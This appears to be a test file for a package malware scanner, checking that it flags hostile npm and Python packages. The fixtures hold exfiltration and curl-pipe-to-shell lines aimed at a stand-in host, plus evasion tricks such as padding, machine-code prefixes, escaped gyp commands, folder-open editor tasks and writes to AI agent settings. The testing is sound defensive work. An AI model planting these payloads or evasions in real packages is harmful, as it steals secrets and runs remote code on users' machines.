import type { Verdict } from '@sallyport/domain';
import type { Sample } from '../rules/sample';
import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
import { analyzeArtifact } from './analyze-artifact';

const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;
const PY = `import os\nos.system('curl https://x.invalid | sh')\n`;
/** `cefaedfe` is the start of a Mach-O program, and a name of four letters in Latin-1. */
const MACH_O_NAME = 'cefaedfe';

type Case = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: Verdict, rule: string];

const hook = (command: string, files: Sample['files']): Omit<Sample, 'what'> => ({
  format: 'tarball',
  manifest: { scripts: { postinstall: command } },
  files,
});

/** What would read as harmless if a reader took the beginning of a file for the whole of it. */
const BEGINS_AS_MACHINE_CODE: readonly Case[] = [
  ['the script of a hook', hook('node x.js', { 'x.js': `MZ=0;${JS}` }), 'malicious', 'hook-network-acts'],
  [
    'a file that node is told to run',
    hook('node x', { x: `MZ/*\0*/=0;${JS}` }),
    'malicious',
    'hook-network-acts',
  ],
  ['a build', { format: 'sdist', files: { 'setup.py': `MZ = 0\n${PY}` } }, 'malicious', 'build-network'],
  [
    'a build in another coding',
    { format: 'sdist', files: { 'setup.py': { hex: MACH_O_NAME, then: ` = 0 # coding: latin1\n${PY}` } } },
    'malicious',
    'build-network',
  ],
  [
    'what Python runs at every start',
    { format: 'wheel', files: { 'sitecustomize.py': `MZ = 0\n${PY}` } },
    'malicious',
    'autoload-payload',
  ],
  [
    'the main file, under any name',
    { format: 'tarball', manifest: { main: 'x.dat' }, files: { 'x.dat': `MZ=0;${JS}` } },
    'malicious',
    'code-secret-sent',
  ],
  [
    'the main file, with zeros in it',
    { format: 'tarball', manifest: { main: 'x' }, files: { x: `MZ/*\0*/=0;${JS}` } },
    'malicious',
    'code-secret-sent',
  ],
  [
    'what another file loads',
    { format: 'tarball', files: { 'index.js': `require('./x')`, x: `MZ/*\0*/=0;${JS}` } },
    'malicious',
    'code-secret-sent',
  ],
];

const ARCHIVES: readonly Case[] = [
  [
    'faults behind names that are only odd',
    {
      format: 'tarball',
      entries: [
        ...Array.from({ length: 60 }, (_, at) => ({ name: `package/${at}:x`, content: 'x' })),
        { name: 'package/../../x', content: 'x' },
      ],
    },
    'suspicious',
    'archive-unsafe-path',
  ],
  [
    'where the reading ended, behind names that are only odd',
    {
      format: 'tarball',
      entries: [
        ...Array.from({ length: 60 }, (_, at) => ({ name: `package/${at}:x`, content: 'x' })),
        { name: 'package/x', content: '0'.repeat(40 * 1024 * 1024) },
      ],
    },
    'unknown',
    'archive-limit-exceeded',
  ],
];

const project = (path: string, end = ''): string =>
  `[build-system]\nrequires = []\nbuild-backend = "own.be"\nbackend-path = ["${path}"]\n${end}`;

const PYTHON: readonly Case[] = [
  ...['\r', '\u2028'].map((end): Case => [
    `a line of a .pth file that ends in ${JSON.stringify(end)}`,
    { format: 'wheel', files: { 'x.pth': `lib${end}import os; os.system('curl https://x.invalid | sh')\n` } },
    'malicious',
    'autoload-payload',
  ]),
  ...['tools', './tools/.', '././tools//', 'x/../tools'].map((path): Case => [
    `a backend of its own in ${path}`,
    { format: 'sdist', files: { 'pyproject.toml': project(path), 'tools/own/be.py': PY } },
    'malicious',
    'build-network',
  ]),
  [
    'what loading a backend of its own runs first',
    {
      format: 'sdist',
      files: { 'pyproject.toml': project('.'), 'own/be.py': '', 'own/__init__.py': PY },
    },
    'malicious',
    'build-network',
  ],
  [
    'a build whose settings cannot be parsed',
    { format: 'sdist', files: { 'pyproject.toml': project('tools', ' = 1'), 'tools/own/be.py': 'x = 1' } },
    'suspicious',
    'runs-unread',
  ],
  [
    'a file that is not what RECORD says, behind files that it does not list',
    {
      format: 'wheel',
      files: {
        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`x/${at}.txt`, ''])),
        'x/z.py': 'x = 1',
      },
      record: { 'x/z.py': 'x = 2' },
    },
    'suspicious',
    'record-mismatch',
  ],
  [
    'a digest of another kind',
    {
      format: 'wheel',
      files: { 'x.py': 'x = 1', 'sample-1.0.0.dist-info/RECORD': 'x.py,sha512=AAAA,5\n' },
      record: null,
    },
    'suspicious',
    'record-mismatch',
  ],
];

const gyp = (sources: string, folder = ''): Omit<Sample, 'what'> => ({
  format: 'tarball',
  files: {
    'x.c': '',
    [`${folder}binding.gyp`]: `{"targets":[{"target_name":"x","sources":[${sources}]}]}`,
    [`${folder}x.js`]: JS,
    ...(folder === '' ? {} : { [`${folder}package.json`]: '{}' }),
  },
});

const NPM: readonly Case[] = [
  ['gyp, in escapes', gyp('"<\\x21(node x.js)"'), 'malicious', 'hook-network-acts'],
  ['gyp, in two texts', gyp(`'<' "!(node x.js)"`), 'malicious', 'hook-network-acts'],
  ['gyp, in code', gyp('"<"+"!(node x.js)"'), 'malicious', 'hook-untraceable'],
  [
    'gyp, far to the right',
    gyp(`"<!(echo ${' '.repeat(25_000)} && node x.js)"`),
    'malicious',
    'hook-untraceable',
  ],
  [
    'gyp, after many commands',
    gyp(`${'"<!(echo x)",'.repeat(201)}"<!(node x.js)"`),
    'malicious',
    'hook-untraceable',
  ],
  [
    'an action of gyp with a bracket in it',
    {
      format: 'tarball',
      files: {
        'x.c': '',
        'binding.gyp': `{'targets':[{'actions':[{'action':['node', './x].js']}]}]}`,
        'x].js': JS,
      },
    },
    'malicious',
    'hook-network-acts',
  ],
  [
    'gyp of a package that is brought along',
    gyp('"<!(node x.js)"', 'node_modules/x/'),
    'malicious',
    'hook-network-acts',
  ],
  [
    'the hook of a package that is brought along and does not say who it is',
    {
      format: 'tarball',
      files: {
        'node_modules/x/package.json': '{"name":7,"scripts":{"postinstall":"node x.js"}}',
        'node_modules/x/x.js': JS,
      },
    },
    'malicious',
    'hook-network-acts',
  ],
];

const PLATFORMS = { '@s/linux-x64': '1.0.0', '@s/darwin-x64': '1.0.0', '@s/win32-x64': '1.0.0' };
const ASKS = `let a = process.env.A_TOKEN, b = process.env.B_TOKEN, c = process.env.C_TOKEN;`;
const many = (count: number, each: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => each(at)).join('');

const HOOKS: readonly Case[] = [
  [
    'an address behind hundreds of the package registry',
    {
      ...hook('node x.js', {
        'x.js': `const h = require('https');${many(310, (at) => `h.get('https://REGISTRY/${at}');`)}h.get('https://x.invalid/');`,
      }),
      manifest: { scripts: { postinstall: 'node x.js' }, optionalDependencies: PLATFORMS },
    },
    'suspicious',
    'hook-network',
  ],
  [
    'what a file does behind hundreds of others',
    hook('node x.js', {
      'x.js': `${many(150, (at) => `require('./f${at}.js');`)}require('./y.js');`,
      'y.js': `require('child_process').exec('curl https://x.invalid | sh')`,
      ...Object.fromEntries(Array.from({ length: 150 }, (_, at) => [`f${at}.js`, ASKS])),
    }),
    'malicious',
    'hook-remote-code',
  ],
  [
    'the end of a script of lines of any length',
    hook('sh x.sh', { 'x.sh': `${many(10, () => `true\n${'a'.repeat(65_536)}`)}\n./y\n` }),
    'suspicious',
    'hook-untraceable',
  ],
  [
    'commands within commands, with other brackets between them',
    hook('sh x.sh', { 'x.sh': `${'$(x () '.repeat(25)}./y${')'.repeat(25)}` }),
    'suspicious',
    'hook-untraceable',
  ],
];

const CODE: readonly Case[] = [
  [
    'a script that code starts and that is not read to its end',
    {
      format: 'tarball',
      files: {
        'index.js': `require('child_process').exec('sh ./x.sh')`,
        'x.sh': { repeat: `true ${'a'.repeat(65_530)}`, times: 17, then: '\n./y\n' },
      },
    },
    'warning',
    'code-unread',
  ],
  [
    'settings that are written by a file behind fifty others',
    {
      format: 'tarball',
      manifest: {
        exports: {
          ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`./${at}`, `./${at}.js`])),
          './x': './x.js',
        },
      },
      files: {
        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`${at}.js`, ''])),
        'x.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{"hooks":{"SessionStart":[]}}')`,
      },
    },
    'suspicious',
    'code-agent-settings',
  ],
  [
    'settings behind hundreds of their keys',
    {
      format: 'tarball',
      files: {
        'index.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{${many(600, (at) => `"k${at}":1,`)}"hooks":{}}')`,
      },
    },
    'suspicious',
    'code-agent-settings',
  ],
  [
    'a module beyond what is kept that begins as data',
    {
      format: 'wheel',
      files: { 'x/__init__.py': { repeat: '{"a": 1}\n', times: 1_900_000, then: PY } },
    },
    'suspicious',
    'runs-unread',
  ],
  [
    'text out of settings, out of settings',
    {
      format: 'tarball',
      files: {
        'index.js': `eval(require('./a.json').a)`,
        'a.json': JSON.stringify({ a: `eval(require('./b.json').b)` }),
        'b.json': JSON.stringify({ b: JS }),
      },
    },
    'malicious',
    'code-secret-sent',
  ],
  [
    'text out of settings that are too large',
    {
      format: 'tarball',
      files: {
        'index.js': `eval(require('./a.json').a)`,
        'a.json': JSON.stringify({ b: ' '.repeat(1_100_000), a: JS }),
      },
    },
    'warning',
    'code-unread',
  ],
];

/** Each time through them one name more is known. */
const STEPS = `${many(8, (at) => `v${9 - at}=v${8 - at};`)}v1=JSON.stringify(process.env);${many(20_000, (at) => `x=[0,0,0,0,0,0,0,${at}];`)}`;

const FLOWS: readonly Case[] = [
  [
    'values and names that are too many to be followed',
    {
      format: 'tarball',
      files: { 'index.js': `${STEPS}\n${JS}` },
    },
    'malicious',
    'code-unread',
  ],
  [
    'what is found before them',
    { format: 'tarball', files: { 'index.js': `${JS}${STEPS}` } },
    'malicious',
    'code-secret-sent',
  ],
  [
    'what is sent within many others',
    {
      format: 'tarball',
      files: {
        'index.js': `require('https').request('https://x.invalid').end(JSON.stringify(process.env)${`+''`.repeat(100)})`,
      },
    },
    'malicious',
    'code-secret-sent',
  ],
  [
    'what is sent behind thousands of steps of Python',
    {
      format: 'wheel',
      files: {
        'x.py': `${many(21_000, (at) => `a = ${at}\n`)}import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n`,
      },
    },
    'malicious',
    'code-secret-sent',
  ],
];

const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
const tasks = (text: string): Omit<Sample, 'what'> => ({
  format: 'tarball',
  files: { '.vscode/tasks.json': text },
});

/** As the editors read them, which forgive much. */
const SETTINGS: readonly Case[] = [
  [
    'a comment at the end of a line',
    tasks(`{"version":"2.0.0", // x\n"tasks":[${TASK}]}`),
    'malicious',
    'agent-config-acts',
  ],
  [
    'a comma that is not there',
    tasks(`{"version":"2.0.0" "tasks":[${TASK}]}`),
    'malicious',
    'agent-config-acts',
  ],
  ['a comma too many', tasks(`{"tasks":[${TASK},],}`), 'malicious', 'agent-config-acts'],
  ['a field told twice', tasks(`{"tasks":[${TASK}],"tasks":[]}`), 'malicious', 'agent-config-acts'],
  ['a field that is inherited', tasks(`{"__proto__":{"tasks":[${TASK}]}}`), 'malicious', 'agent-config-acts'],
  [
    'a command for one kind of machine',
    tasks(
      `{"tasks":[{"linux":{"command":"curl https://x.invalid | sh"},"runOptions":{"runOn":"folderOpen"}}]}`,
    ),
    'malicious',
    'agent-config-acts',
  ],
  [
    'a name in escapes',
    {
      format: 'tarball',
      files: {
        '.devcontainer/devcontainer.json': `{"initialize\\u0043ommand":"curl -d @x https://x.invalid"}`,
      },
    },
    'malicious',
    'agent-config-acts',
  ],
];

const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
  ['of Python', PYTHON],
  ['what begins like machine code', BEGINS_AS_MACHINE_CODE],
  ['an archive', ARCHIVES],
  ['settings', SETTINGS],
  ['of npm', NPM],
  ['hooks', HOOKS],
  ['code', CODE],
  ['values', FLOWS],
];

describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
  it.each(cases)('%s', async (what, sample, verdict, rule) => {
    const whole: Sample = { what, ...sample };

    const analysis = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));

    expect([analysis.verdict, analysis.findings.map(({ rule }) => rule)]).toEqual([
      verdict,
      expect.arrayContaining([rule]),
    ]);
  });
});
